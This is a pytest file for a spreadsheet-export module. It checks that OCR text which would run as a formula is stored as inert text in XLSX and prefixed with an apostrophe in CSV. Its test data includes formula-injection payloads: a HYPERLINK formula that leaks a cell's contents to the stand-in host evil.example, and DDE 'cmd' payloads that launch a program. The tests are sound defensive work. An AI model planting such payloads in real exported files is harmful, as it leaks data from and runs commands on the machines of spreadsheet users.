"""Exports are inert: OCR text that a spreadsheet would run as a formula arrives as text, in XLSX
and CSV alike, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import openpyxl
import pytest

from documents.exports.cells import csv_safe, starts_formula
from documents.exports.csv import write_csv
from documents.exports.document import ExportDocument
from documents.exports.xlsx import write_xlsx

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = [LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _with_cells(sample: ExportDocument, texts: list[str]) -> ExportDocument:
    """Page 1 only, its table's first cells holding `texts`, and a text block holding LINK."""
    page = sample.pages[0]
    title, body, table_block = page.ordered_blocks
    cells = tuple(
        replace(c, text=texts[i]) if i < len(texts) else c
        for i, c in enumerate(table_block.table.cells)
    )
    table_block = replace(table_block, table=replace(table_block.table, cells=cells))
    body = replace(body, text=LINK)
    return replace(sample, pages=(replace(page, blocks=(title, body, table_block)),))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_recognised(text):
    assert starts_formula(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.50", "+3", "-1,234", "12.5%", "Total", "", "a=b", 7])
def test_numbers_and_plain_text_pass_unchanged(text):
    assert csv_safe(text) == text


def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers(sample: ExportDocument):
    doc = _with_cells(sample, [*HOSTILE, "-12.50"])
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(doc)))
    sheet = book["Page 1 table 1"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    by_value = {c.value: c for c in cells}
    for text in HOSTILE:
        # \r is stored as _x000D_ by Excel's rules and read back as \r; \t likewise as text.
        found = by_value.get(text)
        assert found is not None and found.data_type == "s", (text, [c.value for c in cells])
    assert by_value[-12.5].data_type == "n"
    text_sheet = [row[3] for row in book["Text"].iter_rows(min_row=2, values_only=True)]
    assert LINK in text_sheet
    text_cells = [row[3] for row in book["Text"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in text_cells)


def test_csv_prefixes_formula_text_and_leaves_numbers(sample: ExportDocument):
    doc = _with_cells(sample, [*HOSTILE, "-12.50"])
    rows = list(csv.reader(io.StringIO(write_csv(doc).decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    for text in HOSTILE:
        assert "'" + text in fields, (text, fields)
        assert text not in fields
    assert "-12.50" in fields
